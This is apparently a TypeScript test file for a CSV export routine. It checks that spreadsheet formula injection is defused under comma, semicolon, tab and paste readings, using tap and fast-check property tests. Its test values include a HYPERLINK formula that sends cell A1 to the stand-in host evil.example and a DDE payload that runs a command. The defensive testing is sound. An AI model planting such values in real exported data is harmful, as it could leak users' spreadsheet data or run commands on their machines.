// The export's text cannot become a formula in any way a spreadsheet reads the
// file: as RFC 4180 CSV, split on `;` the way a Russian-locale Excel or
// LibreOffice opens a comma-separated file (commas are then text, and a quote
// only means something at the start of a cell), split on tabs and line breaks
// when pasted, and with the blanks some importers trim from a cell's start.
import t from 'tap'
import fc from 'fast-check'
import { csvField, defuseFormulas } from '../../src/domain/sellers/csv.js'

const TRIGGERS = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/

/** Cells as a spreadsheet splits one CSV record on `separators`, honouring a quote only at a cell's start. */
function cellsAsSplitOn(record: string, separators: string): string[] {
  const cells: string[] = []
  let i = 0
  while (i <= record.length) {
    let cell = ''
    if (record[i] === '"') {
      i += 1
      while (i < record.length && !(record[i] === '"' && record[i + 1] !== '"')) {
        cell += record[i]
        i += record[i] === '"' ? 2 : 1
      }
      i += 1
    }
    while (i < record.length && !separators.includes(record[i]!)) cell += record[i++]
    cells.push(cell)
    i += 1
  }
  return cells
}

/** A cell some spreadsheet would evaluate: a trigger first, after the blanks and quotes an importer may strip. */
const isFormula = (cell: string) => TRIGGERS.test(cell.replace(/^[\s"]+/, ''))

/** Every reading of a record: RFC 4180 on commas, `;` (Russian locale), tabs and line breaks (paste). */
const READINGS = [',\r\n', ';\r\n', '\t\r\n', ',;\t\r\n']

const formulasIn = (record: string) => READINGS.flatMap((seps) => cellsAsSplitOn(record, seps).filter(isFormula))

const TRICKY = [
  '=1+1',
  '+7 916 123-45-67',
  '-2+3',
  '@SUM(A1:A9)',
  'x;=HYPERLINK("http://evil.example/?"&A1;"click")',
  'x,=1+1',
  'x; =1+1',
  'x;\t=1+1',
  'x;"=1+1"',
  'x;;=1+1',
  '\t=1+1',
  '\r=1+1',
  'line one\n=1+1',
  'line one\r\n@cmd',
  ' =1+1',
  '\u00a0=1+1',
  'x\t-1',
  '＝1+1',
  'x;＋1',
  "=cmd|' /C calc'!A0",
  'a"b;=c',
]

t.test('the values that made formulas: each defused, in every reading', async (t) => {
  for (const value of TRICKY) {
    const record = ['claim-1', csvField(value), 'tail'].join(',')
    t.same(formulasIn(record), [], JSON.stringify(value))
  }
  t.equal(csvField('x;=1+1'), "x;'=1+1", 'an apostrophe before the trigger that follows a semicolon')
  t.equal(csvField('\t=1+1'), "\t'=1+1", 'after a leading tab')
  t.equal(csvField('x, =1'), `"x, '=1"`)
  // The reproduction: the apostrophe at the start alone, as before, leaves `;=` a formula.
  const startOnly = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)
  t.not(formulasIn(startOnly('x;=HYPERLINK("http://evil.example")')).length, 0, 'the old rule misses it')
})

t.test('text that makes no formula is left as it is', async (t) => {
  for (const value of [
    'plain',
    'a-b',
    'x = 1',
    'email@example.com',
    'a;b,c',
    '3-4 дня',
    'Цена: 1 500 ₽; скидка 5%',
    '',
  ])
    t.equal(defuseFormulas(value), value, JSON.stringify(value))
  t.equal(csvField('a;b'), 'a;b', 'a semicolon alone needs no quoting')
})

t.test('property: no reading of any record holds a formula, and RFC 4180 gives the text back', async (t) => {
  const unit = fc.constantFrom(
    'a',
    'я',
    ' ',
    '\u00a0',
    '=',
    '+',
    '-',
    '@',
    '＝',
    ';',
    ',',
    '\t',
    '\r',
    '\n',
    '"',
    "'",
    '|',
  )
  fc.assert(
    fc.property(fc.array(fc.string({ unit, maxLength: 12 }), { minLength: 1, maxLength: 4 }), (values) => {
      const record = values.map(csvField).join(',')
      if (formulasIn(record).length > 0) return false
      // RFC 4180 reading: every field is its text with apostrophes added before triggers, nothing else.
      const fields = rfc4180Fields(record)
      return (
        fields.length === values.length &&
        fields.every(
          (f, i) => f === defuseFormulas(values[i]!) && f.replaceAll("'", '') === values[i]!.replaceAll("'", ''),
        )
      )
    }),
    { numRuns: 2000 },
  )
  t.pass('2000 records')
})

/** A strict RFC 4180 reading of one record (line breaks inside quotes are data). */
function rfc4180Fields(record: string): string[] {
  const fields: string[] = []
  let i = 0
  for (;;) {
    let field = ''
    if (record[i] === '"') {
      i += 1
      for (;;) {
        if (record[i] === '"' && record[i + 1] === '"') {
          field += '"'
          i += 2
        } else if (record[i] === '"') {
          i += 1
          break
        } else field += record[i++]
      }
    } else while (i < record.length && record[i] !== ',') field += record[i++]
    fields.push(field)
    if (i >= record.length) return fields
    i += 1 // the comma
  }
}
